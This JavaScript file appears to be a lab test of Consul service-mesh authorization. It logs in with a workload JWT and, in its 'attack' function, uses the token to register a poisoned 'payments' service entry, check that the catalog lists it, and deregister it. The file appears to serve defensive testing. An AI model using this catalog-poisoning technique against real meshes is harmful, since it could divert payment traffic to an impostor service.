// NIST SP 800-204A: whoever is in the catalog under a service's name gets what is meant for that service. Callers would still
// ask for its certificate; but they would have to be lucky to reach the real one.
const consul = (lab, r) => lab.note(lab.mesh.http(Object.assign({ address: lab.control.consul_http, tls: { ca: lab.ca, serverName: '127.0.0.1' } }, r)));

function login(lab) {
  const BearerToken = lab.mesh.read(`${lab.folders.notification}/consul.jwt`).text.trim();
  return consul(lab, { method: 'POST', path: '/v1/acl/login', body: JSON.stringify({ AuthMethod: 'workloads', BearerToken }) });
}

export function benign(lab) {
  const res = login(lab);
  lab.judge(res.status === 200, `status ${res.status}`);
}

export function attack(lab) {
  const headers = [['X-Consul-Token', JSON.parse(login(lab).body).SecretID]];
  const entry = { ID: 'payments-poisoned', Name: 'payments', Address: '127.0.0.1', Port: 1, Connect: { Native: true } };
  const res = consul(lab, { method: 'PUT', path: '/v1/agent/service/register', headers, body: JSON.stringify(entry) });
  const listed = consul(lab, { path: '/v1/health/connect/payments', headers }).body.includes('payments-poisoned');
  if (res.status === 200) consul(lab, { method: 'PUT', path: '/v1/agent/service/deregister/payments-poisoned', headers });
  lab.judge(res.status === 200 && listed, `status ${res.status}`);
}
